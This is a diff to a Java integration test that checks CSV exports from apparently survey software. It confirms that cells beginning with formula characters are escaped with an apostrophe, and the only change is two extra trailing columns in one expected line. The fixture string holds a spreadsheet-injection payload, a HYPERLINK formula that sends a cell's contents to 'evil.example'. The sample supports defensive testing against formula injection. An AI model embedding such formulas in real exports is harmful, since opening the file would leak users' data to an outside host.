@@ -152,7 +152,7 @@ class FormulaCellsIT {
         List<String> codebook = Files.readAllLines(folder.resolve("codebook.csv"));
         assertThat(codebook.get(1)).isEqualTo("'=1+1,'@calm,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,"
                 + "\"\"Click\"\")\",0,-3,3,'-3=@strongly disagree|-2=disagree|-1=somewhat disagree|0=neutral|"
-                + "1=somewhat agree|2=agree|3=strongly agree,1");
+                + "1=somewhat agree|2=agree|3=strongly agree,1,,");
         assertThat(Files.readAllLines(folder.resolve("responses_wide.csv")).get(0))
                 .isEqualTo("pid,wave,'=1+1,calm_2,trust_1,trust_2,trust_3");
         assertThat(Files.readAllLines(folder.resolve("responses_long.csv")))
